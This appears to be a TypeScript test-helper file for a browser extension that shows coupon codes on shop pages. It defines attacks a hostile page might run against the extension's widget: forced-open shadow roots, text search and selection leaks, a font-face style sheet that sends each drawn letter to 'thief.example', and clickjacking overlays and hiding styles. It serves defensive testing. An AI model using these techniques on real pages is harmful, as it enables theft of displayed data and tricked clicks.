/** What a shop's page does to read the bell's ticket in it, or to have it pressed. Each runs in the page itself. */

interface Reading {
  name: string;
  /** Before the page's other scripts and before the extension's. */
  prepare: () => void;
  /** @returns what was read */
  read: () => unknown;
}

declare global {
  interface Window {
    /** Where an attack keeps what it has got hold of. */
    caught?: unknown[];
    /** Whether the ticket is seen, as the browser has said last. */
    seen?: boolean;
    find?: (text: string, ...options: boolean[]) => boolean;
  }
}

/** The font names of the ticket, each of which could be made to send its letters. */
const FONTS = [
  'Segoe UI',
  'Roboto',
  'Noto Sans',
  'Liberation Sans',
  'Arial',
  'sans-serif',
  'Menlo',
  'Consolas',
];
const THIEF = 'http://thief.example/';

export const READINGS: Reading[] = [
  {
    name: 'by defining its element first, and by what opens shadow roots',
    prepare: () => {
      const caught: unknown[] = [];
      window.caught = caught;
      class Caught extends HTMLElement {
        constructor() {
          super();
          caught.push(this.attachInternals().shadowRoot ?? this);
        }
      }
      customElements.define('promobell-ticket', Caught);
      const attach = Element.prototype.attachShadow;
      Element.prototype.attachShadow = function (options) {
        const root = attach.call(this, { ...options, mode: 'open' });
        caught.push(root);
        return root;
      };
      new MutationObserver((changes) => {
        for (const { addedNodes } of changes) {
          for (const node of addedNodes) {
            if (node instanceof Element && node.shadowRoot) caught.push(node.shadowRoot);
            if (node instanceof HTMLIFrameElement) caught.push(node.src);
          }
        }
      }).observe(document, { childList: true, subtree: true });
    },
    read: () => window.caught?.length,
  },
  {
    name: 'by searching the page for it and stretching the selection',
    prepare: () => undefined,
    read: () => {
      const found = ['has a code for', 'Copy', 'VERA'].filter((text) => window.find?.(text));
      getSelection()?.modify('extend', 'backward', 'documentboundary');
      const backward = getSelection()?.toString() ?? '';
      getSelection()?.modify('extend', 'forward', 'documentboundary');
      const text = backward + getSelection()?.toString() + document.documentElement.textContent;
      return [...found, ...['has a code', '20%'].filter((part) => text.includes(part))].length;
    },
  },
  {
    name: 'by what its frame leaves behind in the page',
    prepare: () => {
      const caught: unknown[] = [];
      window.caught = caught;
      addEventListener('securitypolicyviolation', ({ blockedURI }) => caught.push(blockedURI));
    },
    read: () => {
      const files = performance.getEntriesByType('resource').filter(({ name }) => !name.startsWith('http'));
      // The last option has frames searched, too.
      const found = window.find?.('has a code for', false, false, true, false, true, false) ? 1 : 0;
      return (window.caught?.length ?? 0) + files.length + window.length + found;
    },
  },
];

/** A style sheet that asks for a file for each letter that is drawn in one of these fonts. */
export function tellingFonts(): string {
  const letters = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789%'];
  return [...FONTS.flatMap((font) => letters.map((letter) => face(font, letter))), face('Known', '~')].join(
    '\n',
  );
}

/** What a letter of the page's own in the font 'Known' sends, which shows that the style sheet works. */
export const KNOWN_LETTER = { letter: '~', request: `GET ${THIEF}${code('~')}` };

function face(font: string, letter: string): string {
  const at = code(letter);
  return `@font-face { font-family: "${font}"; src: url("${THIEF}${at}"); unicode-range: U+${at}; }`;
}

function code(letter: string): string {
  return letter.charCodeAt(0).toString(16);
}

/** Notes in the ticket's frame whether the browser says that the ticket is seen whole, which the ticket is told at nearly the same moment. */
export function noteSight() {
  const options = { threshold: [0, 1], trackVisibility: true, delay: 100 };
  new IntersectionObserver((entries) => {
    for (const entry of entries) {
      window.seen = entry.intersectionRatio === 1 && Reflect.get(entry, 'isVisible') === true;
    }
  }, options).observe(document.body);
}
export const isSeen = () => window.seen;

/** Longer than the browser lets pass between telling one and the other, and shorter than a person takes to react to what was uncovered. */
export const reactionTime = () => new Promise((done) => setTimeout(done, 250));

/** The page's last part is the bell's box: all that it can find of it. */
export const removeBox = () => document.documentElement.lastElementChild?.remove();
export const moveBox = () => document.body.append(document.documentElement.lastElementChild ?? '');

/** Has something in a frame of the page's own, which loads also when the browser refuses it. */
export function frameAt(address: string): Promise<unknown> {
  const frame = document.createElement('iframe');
  frame.src = address;
  const loaded = new Promise((done) => frame.addEventListener('load', done));
  document.body.append(frame);
  return loaded;
}

/** As if the page came back by 'Back'. */
export function pretendToComeBack() {
  for (let time = 0; time < 3; time += 1)
    dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true }));
}
export const boxes = () => document.querySelectorAll('html > div').length;

/** All the styles with which a page might move the bell and its ticket, hide them, or have them look like something else. */
export const stylePage = () =>
  document.documentElement.setAttribute(
    'style',
    'opacity: 0.01; visibility: hidden; transform: translate(-40px, -40px) scale(0.5); clip-path: inset(94% 0 0 90%); filter: blur(40px); mix-blend-mode: difference; contain: strict; inline-size: 1px; block-size: 1px; overflow: hidden',
  );

/** The same for the box itself, of which the page finds the outermost element. */
export const styleBox = () =>
  [...document.querySelectorAll('html > div')]
    .at(-1)
    ?.setAttribute(
      'style',
      'display: block; opacity: 0.01; visibility: hidden; transform: translate(-9px); filter: blur(9px)',
    );

/** Lays something over the whole page that lets the pointer through. */
export function coverPage() {
  const cover = document.createElement('div');
  cover.style.cssText =
    'position: fixed; inset: 0; z-index: 2147483647; background: white; pointer-events: none';
  document.body.append(cover);
}

/** The same in the browser's top layer, over everything that is in it already. */
export function coverAll() {
  const cover = document.createElement('div');
  cover.style.cssText =
    'inset: 0; inline-size: 100%; block-size: 100%; background: white; pointer-events: none';
  document.body.append(cover);
  cover.popover = 'manual';
  cover.showPopover();
}
export const uncover = () => document.body.lastElementChild?.remove();
